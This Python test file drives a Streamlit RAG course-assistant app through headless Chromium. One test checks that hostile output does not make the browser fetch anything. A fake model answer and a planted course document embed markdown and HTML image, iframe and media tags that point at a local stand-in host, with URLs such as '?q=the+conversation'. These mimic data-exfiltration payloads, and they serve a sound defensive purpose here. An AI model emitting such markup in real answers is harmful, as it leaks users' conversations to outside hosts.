"""End to end: `streamlit run ui/app.py` on a free localhost port, driven by Debian's headless Chromium
through Selenium (the system chromedriver, never a downloaded one)."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from tests.conftest import ROOT

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")
QUESTION = "What does LoRA freeze during fine-tuning?"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not (CHROMIUM.exists() and CHROMEDRIVER.exists()),
                       reason="needs Debian's chromium and chromium-driver (apt-get install chromium chromium-driver)"),
]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def app_url(course_index, tmp_path: Path):
    """The app served by a real `streamlit run` over the session's course index; stopped afterwards."""
    yield from serve_app(tmp_path, {"RAG_INDEX_DIR": str(course_index.index_dir),
                                    "RAG_CORPUS_DIR": str(course_index.corpus_dir)})


def serve_app(tmp_path: Path, settings: dict[str, str]):
    """`streamlit run ui/app.py` on a free port with these RAG_* `settings`; yields its URL, then stops it."""
    port = free_port()
    (tmp_path / "no-rag.toml").write_text("", encoding="utf-8")  # an empty config: no project rag.toml is read
    env = {**os.environ, "RAG_MAX_NEW_TOKENS": "8", "RAG_CONFIG": str(tmp_path / "no-rag.toml"), "HF_HUB_OFFLINE": "1",
           "TOKENIZERS_PARALLELISM": "false", **settings}
    log = open(tmp_path / "streamlit.log", "wb")
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(ROOT / "ui" / "app.py"), "--server.headless", "true",
         "--server.port", str(port), "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false",
         "--server.fileWatcherType", "none"],
        cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            if proc.poll() is not None:
                pytest.fail(f"streamlit exited with {proc.returncode}: {(tmp_path / 'streamlit.log').read_text()}")
            try:
                if httpx.get(f"{url}/_stcore/health", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            if time.monotonic() > deadline:
                pytest.fail("streamlit did not start within 60 s")
            time.sleep(0.3)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()


@pytest.fixture
def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Headless Chromium; Selenium Manager is kept offline and never asked for a driver."""
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    monkeypatch.setenv("SE_OFFLINE", "true")
    opts = webdriver.ChromeOptions()
    opts.binary_location = str(CHROMIUM)
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--no-first-run", "--window-size=1400,1000", f"--user-data-dir={tmp_path / 'chromium-profile'}"):
        opts.add_argument(arg)
    driver = webdriver.Chrome(service=Service(executable_path=str(CHROMEDRIVER)), options=opts)
    try:
        yield driver
    finally:
        driver.quit()


def test_ask_in_a_real_browser(app_url: str, browser, tmp_path: Path):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support import expected_conditions as EC
    from selenium.webdriver.support.ui import WebDriverWait

    def wait(seconds: float):
        return WebDriverWait(browser, seconds, poll_frequency=0.2)

    browser.get(app_url)
    wait(180).until(EC.visibility_of_element_located((By.XPATH, "//h1[contains(., 'Course assistant')]")))
    box = wait(120).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']")))
    wait(120).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "[data-testid='stSidebar']"), "Documents:"))
    box.send_keys(QUESTION, Keys.ENTER)

    bubbles = "[data-testid='stChatMessage']"
    wait(30).until(lambda d: len(d.find_elements(By.CSS_SELECTOR, bubbles)) >= 2)
    user, bot = browser.find_elements(By.CSS_SELECTOR, bubbles)[:2]
    assert QUESTION in user.text
    # Tokens show up in the bubble while the answer is generated; sources and timings come at the end.
    wait(300).until(lambda d: "first token" in bot.text)
    expanders = bot.find_elements(By.CSS_SELECTOR, "[data-testid='stExpander']")
    assert expanders and "score" in expanders[0].text
    assert not bot.find_elements(By.CSS_SELECTOR, "[data-testid='stException']")
    answer = bot.find_element(By.CSS_SELECTOR, "[data-testid='stMarkdownContainer']").text
    assert answer.strip()

    expanders[0].find_element(By.TAG_NAME, "summary").click()
    passage = wait(10).until(lambda d: expanders[0].find_element(By.CSS_SELECTOR, ".rag-passage"))
    wait(10).until(lambda d: passage.is_displayed())
    assert passage.text.strip()
    shot = tmp_path / "chat.png"
    assert browser.save_screenshot(str(shot))
    assert shot.stat().st_size > 10_000


# --------------------------------------------------------------------------- rendering that cannot fetch

class ImageHost:
    """A web server on 127.0.0.1 standing for the host a hostile course file or model points images at:
    it counts every request it gets (the test wants none)."""

    def __init__(self) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.hits: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                owner.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
                self.send_header("Content-Length", str(len(gif)))
                self.end_headers()
                self.wfile.write(gif)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def hostile_answer(host: str) -> list[str]:
    """A model's streamed answer that tries every way markdown and HTML have to make a browser load a URL,
    "!" and "[" of one image in two pieces (only the streamed text as a whole shows the image)."""
    return ["LoRA freezes the weights of the pre-trained model. See the ", "!",
            f"[stream-leak](<{host}/stream.png?q=the+conversation>) and ",
            f"![inline-leak]({host}/inline.png \"t\") and ![ref-leak][r] and ![short-leak] ",
            f"<img src=\"{host}/raw-img.png\"> <iframe src=\"{host}/frame\"></iframe> ",
            f"<video src=\"{host}/v.mp4\" autoplay></video> <audio src=\"{host}/a.mp3\" autoplay></audio> ",
            f"<link rel=\"stylesheet\" href=\"{host}/style.css\"> <object data=\"{host}/obj\"></object>",
            f"\n\n[r]: {host}/ref.png\n[short-leak]: {host}/short.png\n"]


def test_a_hostile_answer_and_passage_load_nothing(tmp_path: Path, embedder, browser, monkeypatch: pytest.MonkeyPatch):
    """Issue 31: a course file and a model server both try to make every visitor's browser fetch URLs they
    chose (a tracking image carrying the conversation). The app renders the answer (while it streams and
    after), its passages and the history with images as plain links: the image host gets no request at all,
    and the page shows the links' text."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support import expected_conditions as EC
    from selenium.webdriver.support.ui import WebDriverWait

    from rag.api import make_chunker
    from rag.config import Settings
    from rag.index.build import build_index
    from tests.conftest import write_small_corpus
    from tests.fake_openai import FakeServer

    host, model = ImageHost(), FakeServer()
    try:
        corpus = write_small_corpus(tmp_path / "corpus")
        (corpus / "lora-extra.txt").write_text(
            "LoRA freezes the weights of the pre-trained model and trains small adapter matrices.\n"
            f"![passage-leak]({host.url}/passage.png?q=secret) <img src=\"{host.url}/passage-raw.png\">\n",
            encoding="utf-8")
        settings = Settings(index_dir=tmp_path / "index", corpus_dir=corpus, model="bundled")
        build_index(corpus, settings.index_dir, embedder, make_chunker(embedder, settings))
        model.play(("drip", hostile_answer(host.url), 0.3))
        app = serve_app(tmp_path, {"RAG_INDEX_DIR": str(settings.index_dir), "RAG_CORPUS_DIR": str(corpus),
                                   "RAG_MODEL": model.url, "RAG_ANSWER_MODE": "free", "RAG_TOP_K": "4",
                                   "RAG_MAX_NEW_TOKENS": "1024"})
        url = next(app)
        try:
            def wait(seconds: float):
                return WebDriverWait(browser, seconds, poll_frequency=0.1)

            browser.get(url)
            box = wait(120).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']")))
            box.send_keys("What does LoRA freeze?", Keys.ENTER)
            bubbles = "[data-testid='stChatMessage']"
            wait(60).until(lambda d: len(d.find_elements(By.CSS_SELECTOR, bubbles)) >= 2)
            bot = browser.find_elements(By.CSS_SELECTOR, bubbles)[1]
            try:
                wait(60).until(lambda d: "stream-leak" in bot.text)  # mid-stream: the split image is a link already
            except Exception:
                pytest.fail(f"no answer streamed; the bubble shows: {bot.text!r}")
            assert not host.hits, host.hits
            wait(120).until(lambda d: "first token" in bot.text)  # the answer is done, sources drawn
            for summary in bot.find_elements(By.CSS_SELECTOR, "[data-testid='stExpander'] summary"):
                browser.execute_script("arguments[0].click()", summary)  # below the chat input: no mouse click
            wait(10).until(lambda d: "passage-leak" in bot.text)
            box = wait(30).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']")))
            box.send_keys("And what does it train?", Keys.ENTER)  # the first answer is redrawn from history
            wait(60).until(lambda d: len(d.find_elements(By.CSS_SELECTOR, bubbles)) >= 4)
            wait(120).until(lambda d: "first token" in d.find_elements(By.CSS_SELECTOR, bubbles)[3].text)
            time.sleep(3)  # time for any fetch the page would make
            bot = browser.find_elements(By.CSS_SELECTOR, bubbles)[1]  # the first answer, redrawn from history
            for text in ("stream-leak", "inline-leak", "ref-leak", "short-leak"):
                assert text in bot.text
            links = [a.get_attribute("href") for a in bot.find_elements(By.TAG_NAME, "a")]
            assert f"{host.url}/inline.png" in links  # a link to click, not an image to load
            assert not browser.find_elements(By.CSS_SELECTOR, f"img[src^='{host.url}'], iframe, video, audio, object")
            assert not host.hits, host.hits
        finally:
            app.close()
    finally:
        model.close()
        host.close()
